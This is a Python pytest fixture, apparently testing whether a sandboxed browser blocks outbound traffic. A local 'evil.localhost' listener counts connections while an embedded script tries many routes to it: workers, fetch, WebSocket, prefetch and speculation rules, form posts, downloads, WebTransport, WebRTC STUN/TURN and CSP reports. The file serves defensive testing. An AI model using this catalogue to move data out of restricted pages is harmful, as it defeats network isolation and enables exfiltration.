"""Each way that a browser has to another host, and a port there that counts who came."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from typing import Any

import pytest

from tests.browser_shop import Shop

#: Of what comes there if nobody is kept out, requests.
REQUESTS = ("/at-once", "/at-once-script", "/shared", "/shared-script", "/report", "/form", "/download")
_WAYS = """async () => {
    const put = (tag, set, text) => {
        const one = Object.assign(document.createElement(tag), set);
        if (text) one.textContent = text;
        document.body.append(one);
        return one;
    };
    new Worker("/at-once.js");
    new SharedWorker("/shared.js?" + Math.random());
    for (const rel of ["preconnect", "dns-prefetch"]) put("link", {rel, href: "AWAY"});
    put("script", {type: "speculationrules"},
        JSON.stringify({prefetch: [{source: "list", urls: ["AWAY/speculated"], eagerness: "immediate"}]}));
    put("img", {src: "/refused-by-the-rules.png"});
    for (const name of ["one", "two"]) put("iframe", {name});
    put("form", {action: "AWAY/form", method: "post", target: "one"}).submit();
    put("form", {action: "AWAY/form-window", target: "_blank"}).submit();
    put("a", {href: "AWAY/download", download: "x", target: "two"}).click();
    try { new WebTransport("https://evil.localhost:PORT/transport"); } catch {}
    const peer = new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:PORT"},
        {urls: "turn:127.0.0.1:PORT?transport=udp", username: "a", credential: "b"},
        {urls: "turn:127.0.0.1:PORT?transport=tcp", username: "a", credential: "b"}]});
    peer.createDataChannel("x");
    await peer.setLocalDescription(await peer.createOffer());
    await new Promise((done) => setTimeout(done, 3000));
    peer.close();
}"""


class Elsewhere(asyncio.DatagramProtocol):
    """A port of another host that counts: what each connection began with, and datagrams."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        self.datagrams = 0
        self.open = 0
        self.port = 0

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        place = len(self.heard)
        self.heard.append("connected")
        self.open += 1
        try:
            if line := await reader.readline():
                self.heard[place] = line.split()[1].decode() if b"HTTP/" in line else "something"
            if self.heard[place] == "/kept-open":
                await reader.read()
                return
            writer.write(
                b"HTTP/1.1 204 Nothing\r\nAccess-Control-Allow-Origin: *\r\nConnection: close\r\n\r\n"
            )
            await writer.drain()
        except OSError:
            pass
        finally:
            self.open -= 1
            writer.close()

    def datagram_received(self, data: bytes, address: Any) -> None:
        self.datagrams += 1

    @property
    def url(self) -> str:
        return f"http://evil.localhost:{self.port}"

    def ways_from(self, stall: Shop) -> str:
        """A script for the shop's page at /sell, which it makes."""
        fetches = """fetch("AWAY/NAME", {mode: "no-cors"}); new WebSocket("WS/NAME-socket");
            try { importScripts("AWAY/NAME-script"); } catch {}"""
        fetches = fetches.replace("AWAY", self.url).replace("WS", self.url.replace("http", "ws"))
        for name in ("at-once", "shared"):
            stall.show(f"/{name}.js", fetches.replace("NAME", name).encode(), Content_Type="text/javascript")
        stall.show("/sell", "<h1>Sell</h1>", Content_Security_Policy_Report_Only=(
            f"img-src 'none'; report-uri {self.url}/report"))  # fmt: skip
        return _WAYS.replace("AWAY", self.url).replace("PORT", str(self.port))


@pytest.fixture
async def elsewhere() -> AsyncIterator[Elsewhere]:
    made, loop = Elsewhere(), asyncio.get_running_loop()
    server = await asyncio.start_server(made.serve, "127.0.0.1", 0)
    made.port = server.sockets[0].getsockname()[1]
    way, _ = await loop.create_datagram_endpoint(lambda: made, local_addr=("127.0.0.1", made.port))
    yield made
    way.close()
    server.close()
